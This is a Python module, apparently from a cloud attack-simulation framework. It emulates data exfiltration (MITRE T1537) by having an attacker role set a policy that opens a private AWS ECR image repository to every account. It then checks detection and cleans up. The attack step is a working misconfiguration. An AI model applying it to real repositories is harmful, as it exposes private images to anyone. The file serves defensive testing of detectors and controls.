"""Open a private image repository to every AWS account by its policy."""

from bastide.attack.stage import Stage, policy
from bastide.attack.technique import Recorded, Scene, Technique

TECHNIQUE = Technique(
    title="An image repository is opened to everybody",
    mitre=("T1537",),
    tactic="exfiltration",
    detectors=("IAM Access Analyzer: public access to an ECR repository",),
    expected=Recorded(
        "perimeter-identity-rcp covers buckets, keys, queues, secrets and roles, not images yet",
        would="perimeter-identity-rcp with ecr:*",
    ),
    source="Amazon ECR API Reference, SetRepositoryPolicy",
)


def prepare(stage: Stage) -> Scene:
    """A repository."""
    name = stage.name("shop")
    stage.owner().client("ecr").create_repository(repositoryName=name)
    return {"repository": name}


def attack(stage: Stage, scene: Scene) -> None:
    """Let everybody pull."""
    pull = ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"]
    everybody = policy({"Sid": "pull", "Effect": "Allow", "Principal": "*", "Action": pull})
    stage.attacker().client("ecr").set_repository_policy(repositoryName=scene["repository"], policyText=everybody)


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The repository's policy allows everybody."""
    ecr = stage.owner().client("ecr")
    try:
        found = ecr.get_repository_policy(repositoryName=scene["repository"])["policyText"]
    except ecr.exceptions.RepositoryPolicyNotFoundException:
        return False
    return '"Principal": "*"' in found


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the repository."""
    stage.owner().client("ecr").delete_repository(repositoryName=scene["repository"], force=True)
